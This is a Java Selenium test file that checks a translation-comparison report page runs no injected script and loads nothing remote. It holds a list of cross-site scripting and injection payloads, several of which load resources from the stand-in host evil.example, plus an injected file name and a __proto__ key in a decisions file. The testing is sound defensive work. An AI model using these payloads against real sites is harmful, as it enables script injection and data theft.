// SPDX-License-Identifier: GPL-3.0-or-later
package org.duizhao.report.browser;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Locale;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.openqa.selenium.WebElement;

/** Documents that try to run or load something in the page of whoever reviews them. */
class HostileDocumentTest {
  private static final List<String> ATTACKS =
      List.of(
          "<script>window.fired=1</script>",
          "</span></div></main><script src=//evil.example/x.js></script>",
          "<img src=x onerror=window.fired=1>",
          "<svg/onload=window.fired=1><animate onbegin=window.fired=1 attributeName=x dur=1s>",
          "<iframe srcdoc='<script>parent.fired=1</script>'></iframe>",
          "<object data=//evil.example/o></object><embed src=//evil.example/e>",
          "[press](javascript:window.fired=1) and ![image](https://evil.example/a.png)",
          "<a href=\"jav&#x09;ascript:window.fired=1\" autofocus onfocus=window.fired=1>x</a>",
          "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example'>",
          "</style><style>@import '//evil.example/x.css';*{background:url(//evil.example/b)}</style>",
          "</script><script>window.fired=1</script>",
          "</title></textarea></template><img src=//evil.example/i onload=window.fired=1>",
          "<form action=//evil.example><button autofocus>x</button></form>",
          "<video src=//evil.example/v autoplay onloadstart=window.fired=1></video>",
          "<link rel=stylesheet href=//evil.example/l><link rel=prefetch href=//evil.example/p>",
          "\" onmouseover=\"window.fired=1\" x=\"",
          "' style='background:url(//evil.example/s)",
          "data:text/html,<script>opener.fired=1</script>",
          "--><!--[if IE]><script>window.fired=1</script><![endif]-->",
          "<math href=\"javascript:window.fired=1\">CLICK</math>",
          "`<script>window.fired=1</script>` and ``</script>``",
          "\u202Eevil\u202C \u2066x\u2069 \u0008\u001B[31m",
          "${window.fired=1} {{constructor.constructor('window.fired=1')()}} <%= 1 %>");

  @TempDir private static Path folder;
  private static Browser browser;

  @BeforeAll
  static void start() throws IOException {
    browser = Browser.start();
  }

  @AfterAll
  static void stop() throws IOException {
    if (browser != null) {
      browser.close();
    }
  }

  private static String document(String format, String language) {
    StringBuilder text = new StringBuilder(format.equals("html") ? "<html><body>" : "");
    int number = 10;
    for (String attack : ATTACKS) {
      String words = language.equals("en") ? "The driver handles %d queues: " : "该驱动处理 %d 个队列：";
      number += language.equals("en") ? 1 : 2;
      String line = String.format(Locale.ROOT, words, number) + attack;
      text.append(format.equals("html") ? "<p>" + line + "</p>\n" : line + "\n\n");
    }
    return text.toString();
  }

  @ParameterizedTest
  @CsvSource({"md", "html", "txt"})
  void nothingRunsAndNothingLoads(String format) throws IOException {
    Path source = Files.writeString(folder.resolve("a." + format), document(format, "en"));
    Path name = folder.resolve("'\"><img src=x onerror=window.fired=1>." + format);
    Path target = Files.writeString(name, document(format, "zh"));
    Path page =
        Browser.report(folder, source.toString(), target.toString(), "--check", "number-mismatch");

    browser.open(page);
    assertThat(browser.shown("article.issue")).isNotEmpty();
    clickAndHoverAll();

    assertThat(browser.number("window.fired === undefined ? 0 : 1")).isZero();
    assertThat(browser.number("performance.getEntriesByType('resource').length")).isZero();
    assertThat(browser.script("return window.violations")).isEqualTo(List.of());
    assertThat(browser.complaints()).isEmpty();
    assertThat(browser.script("return location.protocol + document.title"))
        .asString()
        .startsWith("file:")
        .contains("onerror");
    assertThat(
            browser.number(
                "document.querySelectorAll('img,iframe,object,embed,base,video').length"))
        .isZero();
    assertThat(browser.driver().getWindowHandles()).hasSize(1);
  }

  private static void clickAndHoverAll() {
    for (WebElement element : browser.shown(".run-hyperlink, mark, .run-image, .s")) {
      browser.script(
          "arguments[0].scrollIntoView({block: 'center'}); arguments[0].click()", element);
    }
    browser.press("j", "n", "n", "p", "?");
    browser.escape();
    browser.press("/");
    browser.press("<script>");
    browser.escape();
  }

  @ParameterizedTest
  @CsvSource({"<img src=x onerror=window.fired=1>", "javascript:window.fired=1", "</script>"})
  void aDecisionsFileIsTextAsWell(String attack) throws Exception {
    Path page =
        Browser.report(folder, "seeds/digest/digest.en.md", "seeds/digest/digest.defects.zh.md");
    browser.openAnew(page);
    String id = browser.shown("article.issue").get(0).getAttribute("data-fingerprint");
    Path file = folder.resolve("decisions.json");
    Files.writeString(
        file,
        "{\"format\": 1, \"decisions\": [{\"fingerprint\": \"__proto__\", \"status\": \"open\"},"
            + " {\"fingerprint\": \""
            + id
            + "\", \"status\": \"dismissed\", \"reason\": \""
            + attack
            + "\"}]}");

    browser.click(".decide summary");
    browser.one("#import").sendKeys(file.toAbsolutePath().toString());
    browser.await(() -> browser.text("#told").startsWith("2 "));
    browser.reload();

    assertThat(browser.one("#issue-" + id).getAttribute("data-status")).isEqualTo("dismissed");
    assertThat(
            browser.script(
                "return document.querySelector('#issue-" + id + " .status').textContent"))
        .isEqualTo(attack);
    assertThat(browser.number("window.fired === undefined ? 0 : 1")).isZero();
    assertThat(browser.complaints()).isEmpty();
  }
}
